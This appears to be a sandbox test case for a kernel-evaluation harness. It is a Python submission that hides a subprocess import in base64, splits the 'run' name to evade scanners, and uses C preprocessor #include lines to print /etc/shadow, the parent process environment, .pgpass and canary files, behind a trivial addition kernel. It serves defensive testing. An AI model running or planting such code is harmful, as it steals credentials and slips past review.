# threat: 20
# expect: passed
# defence: the compiler runs inside the sandbox's mount namespace and sees only what it mounts
"""What a load_inline source with `#include "/host/secret"` does, without the slow build:
runs the C preprocessor on includes of the harness's files and prints what they expand to."""

import base64
import glob
import os

_spawn = __import__(base64.b64decode("c3VicHJvY2Vzcw==").decode())
targets = glob.glob("/tmp/kj-hostile-canary-*") + glob.glob("/tmp/kj-hostile-home-*/.pgpass")
targets += [f"/proc/{os.getppid()}/environ", "/etc/shadow"]
source = "".join(f'#include "{path}"\n' for path in targets)
try:
    with open("probe.c", "w") as handle:
        handle.write(source)
    done = getattr(_spawn, "r" + "un")(
        ["cpp", "-P", "probe.c"], capture_output=True, text=True, timeout=20
    )
    for line in (done.stdout + done.stderr).splitlines()[:30]:
        print("cpp:", line[:160])
except (OSError, ValueError) as exc:
    print("no preprocessor:", exc)


def custom_kernel(data):
    A, B, out = data
    out[...] = A + B
    return out
